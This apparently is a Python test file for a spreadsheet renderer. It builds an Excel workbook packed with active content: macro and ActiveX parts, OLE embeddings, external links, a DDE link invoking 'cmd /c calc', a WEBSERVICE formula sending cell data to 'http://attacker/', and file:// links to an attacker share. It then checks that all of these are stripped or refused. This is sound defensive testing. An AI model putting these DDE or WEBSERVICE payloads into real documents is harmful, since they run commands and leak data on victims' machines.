"""A department's workbook that would do something by itself does nothing when it comes from us."""

import io

import pytest
from openpyxl import load_workbook

from renderers.ooxml.package import WorkbookUnreadable
from renderers.placements import CellWrite, Placements
from renderers.workbook import fill, with_sheets
from tests.renderers.department_sheet import opened, parts, roster, zipped

KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
MARKUP = "http://schemas.openxmlformats.org/markup-compatibility/2006"
SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
SHEET_RELS, BOOK_RELS = "xl/worksheets/_rels/sheet1.xml.rels", "xl/_rels/workbook.xml.rels"
WRITTEN = Placements(cells=(CellWrite("B6", "王秀英"),))


def relation(own: str, kind: str, target: str, *, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="{own}" Type="{kind}" Target="{target}"{mode}/>'


def hostile() -> bytes:
    """The roster with everything that acts."""
    made = {name: content.decode() for name, content in parts(roster()).items() if name.endswith((".xml", ".rels"))}  # fmt: skip
    binary = {name: content for name, content in parts(roster()).items() if name not in made}

    def put(part: str, before: str, more: str) -> None:
        assert before in made[part]
        made[part] = made[part].replace(before, more + before, 1)

    put(BOOK_RELS, "</Relationships>", "".join((
        relation("x1", f"{KIND}/externalLink", "externalLinks/externalLink1.xml"),
        relation("x2", f"{MICROSOFT}/vbaProject", "vbaProject.bin"),
        relation("x3", f"{KIND}/connections", "connections.xml"),
    )))  # fmt: skip
    put("_rels/.rels", "</Relationships>", relation("x4", f"{MICROSOFT}/ui/extensibility", "customUI/customUI.xml"))  # fmt: skip
    put(SHEET_RELS, "</Relationships>", "".join((
        relation("x5", f"{KIND}/oleObject", "../embeddings/oleObject1.bin"),
        relation("x6", f"{KIND}/control", "../activeX/activeX1.xml"),
        relation("x7", f"{KIND}/hyperlink", "file://attacker/share", outside=True),
        relation("x8", f"{KIND}/hyperlink", "https://www.yantai.gov.cn/", outside=True),
    )))  # fmt: skip
    put(BOOK, "<definedNames>", f'<externalReferences xmlns:r="{KIND}"><externalReference r:id="x1"/></externalReferences>')  # fmt: skip
    put(BOOK, "</definedNames>", '<definedName name="elsewhere">[1]Sheet1!$A$1</definedName>')
    first, second = (f'<c r="{at}" t="str"><f>{formula}</f><v>{value}</v></c>' for at, formula, value in (
        ("J6", "[1]Sheet1!A1", "上月"), ("K6", 'WEBSERVICE("http://attacker/"&amp;B6)', "x"),
    ))  # fmt: skip
    put(SHEET, "</sheetData>", f'<row r="60"><c r="J60"><v>1</v></c>{first.replace("J6", "K60")}{second.replace("K6", "L60")}<c r="M60" t="str"><f>[1]!\'!A0\'</f><v>dde</v></c></row>')  # fmt: skip
    acting = "".join((
        f'<hyperlinks xmlns:r="{KIND}"><hyperlink ref="A1" r:id="x7"/><hyperlink ref="A2" r:id="x8"/></hyperlinks>',
    ))  # fmt: skip
    put(SHEET, "<pageMargins", acting)
    put(SHEET, "</worksheet>", (
        f'<oleObjects xmlns:r="{KIND}"><mc:AlternateContent xmlns:mc="{MARKUP}"><mc:Choice Requires="x14">'
        '<oleObject progId="Package" shapeId="1" r:id="x5"/></mc:Choice><mc:Fallback>'
        '<oleObject progId="Package" shapeId="1" r:id="x5"/></mc:Fallback></mc:AlternateContent></oleObjects>'
        f'<controls xmlns:r="{KIND}"><control shapeId="2" r:id="x6"/></controls>'
    ))  # fmt: skip
    link = f'<externalLink xmlns="{KIND}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    put("[Content_Types].xml", "</Types>", '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/x"/>')  # fmt: skip
    made["[Content_Types].xml"] = made["[Content_Types].xml"].replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    whole = {name: content.encode() for name, content in made.items()} | binary
    return zipped(whole | {
        "xl/externalLinks/externalLink1.xml": link.encode("utf-16"),
        "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships>{relation("r1", f"{KIND}/externalLinkPath", "file://attacker/x", outside=True)}</Relationships>'.encode(),
        "xl/vbaProject.bin": b"x", "xl/connections.xml": b"<connections/>", "xl/activeX/activeX1.xml": b"<x/>",
        "customUI/customUI.xml": b"<x/>", "xl/embeddings/oleObject1.bin": b"x",
    })  # fmt: skip


def test_nothing_in_it_acts_any_more() -> None:
    """Neither parts nor what spoke of them are left; values stay where a formula fetched them."""
    for made in (fill(hostile(), WRITTEN), with_sheets(hostile(), ["惠安"])[0]):
        found = parts(made)
        words = (
            "external",
            "vba",
            "connections",
            "activex",
            "customui",
            "oleobject",
            "macroenabled",
        )
        assert [name for name in found if any(one in name.lower() for one in words)] == []
        text = b"".join(
            content for name, content in found.items() if name.endswith((".xml", ".rels"))
        )
        for gone in (b"attacker", b"macroEnabled", b"oleObject", b"<control", b"externalReference",
                     b"WEBSERVICE", b"[1]", b"AlternateContent", b"extensibility"):  # fmt: skip
            assert gone not in text, gone
        assert b"https://www.yantai.gov.cn/" in text
        sheet = opened(made)
        assert (sheet["K60"].value, sheet["L60"].value, sheet["M60"].value) == ("上月", "x", "dde")
        assert sheet["A2"].hyperlink.target == "https://www.yantai.gov.cn/"
        assert load_workbook(io.BytesIO(made)).defined_names.keys() >= {"总额", "名单"}


def test_a_sheet_that_is_a_program_is_refused() -> None:
    """Macro sheets of old stand among the others and run when the workbook is opened."""
    made = parts(roster())
    kind = f"{MICROSOFT}/xlMacrosheet"
    made[BOOK_RELS] = made[BOOK_RELS].replace(b"</Relationships>", relation("m1", kind, "macrosheets/sheet1.xml").encode() + b"</Relationships>")  # fmt: skip
    with pytest.raises(WorkbookUnreadable):
        fill(zipped(made), WRITTEN)


def test_what_does_nothing_is_left_alone() -> None:
    """Not a byte more is changed than values ask for."""
    before, after = parts(roster()), parts(fill(roster(), WRITTEN))
    for part in ("[Content_Types].xml", SHEET_RELS, BOOK_RELS, "_rels/.rels"):
        assert before[part] == after[part]
